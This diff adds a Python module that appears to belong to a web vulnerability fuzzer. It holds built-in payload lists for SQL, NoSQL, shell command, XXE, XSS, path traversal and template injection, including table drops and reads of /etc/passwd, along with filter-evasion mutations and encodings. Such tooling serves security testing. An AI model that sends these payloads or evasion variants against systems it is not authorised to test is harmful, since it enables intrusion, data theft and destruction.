@@ -0,0 +1,217 @@
+"""Injection payload corpora with lazy mutation, encoding and deduplication"""
+import hashlib
+import os
+import re
+import unicodedata
+from typing import Callable, Dict, Iterable, Iterator, List, Optional, Sequence, Tuple
+from urllib.parse import quote
+
+from app.core.config import settings
+
+BASE_CORPORA: Dict[str, Tuple[str, ...]] = {
+    'sql': (
+        "' OR '1'='1", "admin'--", "1; DROP TABLE users", "' OR 1=1--", "1' AND SLEEP(5)--",
+        "' UNION SELECT NULL--", "1 AND 1=2", "')) OR (('1'='1", "1' ORDER BY 100--", "'||pg_sleep(5)--",
+    ),
+    'nosql': (
+        '{"$gt": ""}', '{"$ne": null}', '{"$regex": ".*"}', '{"$where": "sleep(5000)"}',
+        '{"$exists": true}', "'; return true; var x='",
+    ),
+    'command': (
+        '; ls -la', '& dir', '| cat /etc/passwd', '`id`', '$(id)', '; sleep 5', '|| whoami', '\nid',
+    ),
+    'xml': (
+        '<!DOCTYPE test [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>',
+        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hosts">]><a>&x;</a>',
+        '<![CDATA[<script>]]>', '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></a>',
+    ),
+    'xss': (
+        '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "'><svg onload=alert(1)>",
+        'javascript:alert(1)', '<body onload=alert(1)>',
+    ),
+    'path_traversal': (
+        '../../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '/etc/passwd', '....//....//etc/passwd',
+    ),
+    'template': ('{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{7*7}', '{{config}}'),
+}
+
+_SQL_KEYWORD_RE = re.compile(r'\b(or|and|union|select|order|by|sleep|drop|table|null)\b', re.IGNORECASE)
+
+
+def _alternate_case(match: 're.Match') -> str:
+    return ''.join(c.upper() if i % 2 else c.lower() for i, c in enumerate(match.group()))
+
+
+def _sql_mutations(payload: str) -> Iterator[str]:
+    yield _SQL_KEYWORD_RE.sub(_alternate_case, payload)
+    yield payload.replace(' ', '/**/')
+    yield payload.replace("'", '"')
+    yield payload.rstrip('-') + '-- -' if payload.endswith('--') else payload + '#'
+
+
+def _command_mutations(payload: str) -> Iterator[str]:
+    stripped = payload.lstrip(';&|\n ')
+    for separator in ('; ', '| ', '&& ', '\n'):
+        yield separator + stripped
+    yield payload.replace(' ', '${IFS}')
+
+
+def _quote_mutations(payload: str) -> Iterator[str]:
+    yield payload.replace('"', "'")
+    yield payload.replace(' ', '')
+
+
+def _markup_mutations(payload: str) -> Iterator[str]:
+    yield re.sub(r'<(\w+)', lambda m: '<' + m.group(1).upper(), payload)
+    yield payload.replace(' ', '/')
+    yield payload.replace('"', "'")
+
+
+def _traversal_mutations(payload: str) -> Iterator[str]:
+    yield payload.replace('../', '..%2f')
+    yield payload.replace('../', '..;/')
+    yield payload + '%00.png'
+
+
+MUTATIONS: Dict[str, Callable[[str], Iterator[str]]] = {
+    'sql': _sql_mutations,
+    'nosql': _quote_mutations,
+    'command': _command_mutations,
+    'xml': _quote_mutations,
+    'xss': _markup_mutations,
+    'path_traversal': _traversal_mutations,
+    'template': _quote_mutations,
+}
+
+ENCODINGS: Dict[str, Callable[[str], str]] = {
+    'url': lambda p: quote(p, safe=''),
+    'double_url': lambda p: quote(quote(p, safe=''), safe=''),
+    'html': lambda p: ''.join(c if c.isalnum() else f'&#{ord(c)};' for c in p),
+    'unicode': lambda p: ''.join(c if c.isalnum() else f'\\u{ord(c):04x}' for c in p),
+}
+
+
+def normalize_payload(payload: str) -> str:
+    """The form two payloads share when a server cannot tell them apart"""
+    # Newlines are left alone: they separate shell commands
+    return re.sub(r'[ \t]+', ' ', unicodedata.normalize('NFC', payload)).strip(' \t')
+
+
+class PayloadCorpus:
+    """A re-iterable payload stream that expands its source only once.
+
+    The first iteration pulls payloads from the generator as they are
+    needed and records them; later iterations replay the recording and only
+    continue the generator past its end. Consumers that stop early therefore
+    never pay for the rest of the corpus, and consumers that iterate it many
+    times (once per injection point) pay for it once. Not thread-safe.
+    """
+
+    def __init__(self, injection_class: str, source: Iterator[str]):
+        self.injection_class = injection_class
+        self._source = source
+        self._expanded: List[str] = []
+        self._exhausted = False
+
+    def __iter__(self) -> Iterator[str]:
+        index = 0
+        while True:
+            if index < len(self._expanded):
+                yield self._expanded[index]
+                index += 1
+                continue
+            if self._exhausted:
+                return
+            try:
+                self._expanded.append(next(self._source))
+            except StopIteration:
+                self._exhausted = True
+
+    def __len__(self) -> int:
+        """Number of payloads expanded so far"""
+        return len(self._expanded)
+
+
+# (class, encodings, mutate, max payloads, corpus dir) -> corpus, shared by every generator in the process
+_corpus_cache: Dict[Tuple, PayloadCorpus] = {}
+
+
+class PayloadGenerator:
+    """Payload streams per injection class.
+
+    Every class starts from its built-in corpus, extended by
+    <PAYLOAD_CORPUS_DIR>/<class>.txt (one payload per line) when present.
+    Payloads come out breadth first: base payloads, raw and then in every
+    encoding, followed by their mutations in the same way, so a consumer
+    that only takes the first few, or a max_payloads cap, still gets
+    variety. Payloads whose normalized form, under the same encoding, was
+    already produced are skipped.
+
+    Encodings are filter-evasion variants applied on top of the transport's
+    own encoding: the fuzzer sends payloads through aiohttp params, json and
+    data, which encode them again, so a 'url' payload reaches the server
+    percent-encoded and only matters if the application decodes it twice.
+    """
+
+    def __init__(self, encodings: Optional[Sequence[str]] = None, mutate: bool = True,
+                 max_payloads: Optional[int] = None, corpus_dir: Optional[str] = None):
+        self.encodings = tuple(settings.PAYLOAD_ENCODINGS if encodings is None else encodings)
+        unknown = set(self.encodings) - set(ENCODINGS)
+        if unknown:
+            raise ValueError(f"Unknown payload encodings: {', '.join(sorted(unknown))}")
+        self.mutate = mutate
+        self.max_payloads = settings.PAYLOAD_MAX_PER_CLASS if max_payloads is None else max_payloads
+        self.corpus_dir = settings.PAYLOAD_CORPUS_DIR if corpus_dir is None else corpus_dir
+
+    @property
+    def classes(self) -> List[str]:
+        classes = set(BASE_CORPORA)
+        if self.corpus_dir and os.path.isdir(self.corpus_dir):
+            classes.update(name[:-4] for name in os.listdir(self.corpus_dir) if name.endswith('.txt'))
+        return sorted(classes)
+
+    def corpus(self, injection_class: str) -> PayloadCorpus:
+        """The cached, re-iterable corpus of one class for this configuration"""
+        key = (injection_class, self.encodings, self.mutate, self.max_payloads, self.corpus_dir)
+        if key not in _corpus_cache:
+            _corpus_cache[key] = PayloadCorpus(injection_class, self.generate(injection_class))
+        return _corpus_cache[key]
+
+    def corpora(self, classes: Optional[Iterable[str]] = None) -> Dict[str, PayloadCorpus]:
+        return {name: self.corpus(name) for name in (self.classes if classes is None else classes)}
+
+    def generate(self, injection_class: str) -> Iterator[str]:
+        """A fresh lazy stream of unique payloads, at most max_payloads of them"""
+        seen = set()
+        produced = 0
+        for encoding, payload in self._expand(injection_class):
+            key = hashlib.blake2b(f'{encoding}\0{normalize_payload(payload)}'.encode(), digest_size=8).digest()
+            if key in seen or not payload.strip():
+                continue
+            seen.add(key)
+            yield ENCODINGS[encoding](payload) if encoding else payload
+            produced += 1
+            if self.max_payloads and produced >= self.max_payloads:
+                return
+
+    def _expand(self, injection_class: str) -> Iterator[Tuple[Optional[str], str]]:
+        """(encoding, raw payload) pairs, breadth first"""
+        for encoding in (None, *self.encodings):
+            for payload in self._base(injection_class):
+                yield encoding, payload
+        mutations = MUTATIONS.get(injection_class) if self.mutate else None
+        if mutations:
+            for encoding in (None, *self.encodings):
+                for payload in self._base(injection_class):
+                    for mutated in mutations(payload):
+                        yield encoding, mutated
+
+    def _base(self, injection_class: str) -> Iterator[str]:
+        yield from BASE_CORPORA.get(injection_class, ())
+        path = os.path.join(self.corpus_dir, f'{injection_class}.txt') if self.corpus_dir else None
+        if path and os.path.isfile(path):
+            with open(path, encoding='utf-8', errors='replace') as f:
+                for line in f:
+                    line = line.rstrip('\r\n')
+                    if line and not line.startswith('#'):
+                        yield line